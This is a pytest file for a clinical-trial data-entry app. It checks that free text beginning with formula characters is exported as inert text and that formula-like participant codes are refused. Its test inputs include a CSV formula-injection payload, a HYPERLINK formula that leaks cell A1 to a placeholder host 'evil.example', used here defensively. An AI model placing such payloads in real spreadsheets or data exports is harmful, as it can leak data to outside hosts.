"""The outside check of issue 11 (item 4): a participant whose free text starts with ``=`` (or
``+``, ``-``, ``@``), typed into the eCRF over HTTP, is exported in ``export.zip`` and
``/audit/export.csv`` with no live formula, and the export still reads back to what was typed.
On SQLite and PostgreSQL (the ``login`` fixture runs on both)."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pandas as pd  # type: ignore[import-untyped]
import pytest

from ovaregen.domain.protocols import load_protocol
from ovaregen.io.reader import validate_dataset
from ovaregen.io.spreadsheet_safe import unescaped_cell
from tests.spreadsheet_checks import csv_cells, live_cells

STUDY = "regenera"


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("http://evil.example/?leak="&A1,"details")', "+1-2", "-1+cmd", "@SUM(A1)"],
)
def test_free_text_typed_in_the_ecrf_leaves_as_text(  # type: ignore[no-untyped-def]
    login, tmp_path: Path, typed: str
) -> None:
    coordinator = login("coordinator")
    created = coordinator.api("POST", f"/api/studies/{STUDY}/participants", json={"site": "MAD1"})
    assert created.status_code == 201, created.text
    code = created.json()["code"]
    url = f"/api/studies/{STUDY}/participants/{code}/visits/screening"
    saved = coordinator.api("PUT", url, json={"values": {"ethnicity": typed, "afc": "3"}})
    assert saved.status_code == 200, saved.text

    exported = login("investigator").client.get(f"/studies/{STUDY}/export.zip")
    assert exported.status_code == 200
    folder = tmp_path / "export"
    folder.mkdir()
    with zipfile.ZipFile(io.BytesIO(exported.content)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8")
            assert live_cells(text) == [], name
            (folder / name).write_text(text, encoding="utf-8")
    people = pd.read_csv(folder / "participants.csv", dtype=str, keep_default_na=False)
    assert people["ethnicity"].tolist() == ["'" + typed]  # shown as text, not run
    read = validate_dataset(folder, load_protocol(STUDY)).dataset
    assert read is not None
    assert read.participants.get_column("ethnicity").to_list() == [typed]

    trail = login("statistician").client.get("/audit/export.csv")
    assert trail.status_code == 200
    assert live_cells(trail.text) == []
    rows = csv_cells(trail.text)
    field, new = rows[0].index("field"), rows[0].index("new")
    values = {row[field]: row[new] for row in rows[1:]}
    assert values["ethnicity"] == "'" + typed
    assert unescaped_cell(values["ethnicity"]) == typed
    assert values["afc"] == "3"


def test_a_participant_code_that_would_start_a_formula_is_refused_at_entry(  # type: ignore[no-untyped-def]
    login,
) -> None:
    coordinator = login("coordinator")
    refused = coordinator.api(
        "POST", f"/api/studies/{STUDY}/participants", json={"site": "MAD1", "code": "=1+1"}
    )
    assert refused.status_code == 409, refused.text  # as every refused registration (StudyError)
    assert "begins with '='; a code begins with a letter or a digit" in refused.text
    listed = coordinator.api("GET", f"/api/studies/{STUDY}/participants").json()
    assert all(not p["code"].startswith("=") for p in listed)
